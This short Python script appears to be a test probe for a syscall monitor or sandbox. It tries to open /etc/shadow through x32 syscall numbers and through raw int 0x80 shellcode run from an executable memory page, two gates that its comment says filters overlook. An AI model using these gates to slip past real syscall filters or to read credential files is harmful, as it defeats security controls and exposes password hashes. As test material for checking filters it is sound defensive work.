# Calls by the gates that watchers forget: the 32-bit one (int 0x80), and the x32 numbers. Opening /etc/shadow by each.
import ctypes
import mmap
import os
import signal

from kit import attempt, finish, syscall

X32 = 0x40000000
attempt("x32 open", lambda: syscall(X32 | 2, b"/etc/shadow", 0, 0))


def by_gate():
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov eax, 5 (open of the 32-bit table); xor ebx, ebx; int 0x80; ret
    page.write(bytes.fromhex("b80500000031db31c9cd80c3"))
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


child = os.fork()
if child == 0:
    attempt("int 0x80", by_gate)
    os._exit(0)
status = os.waitpid(child, 0)[1]
print(f"the 32-bit gate ended with {signal.Signals(status & 0x7F).name if status & 0x7F else 'an answer'}")
finish()
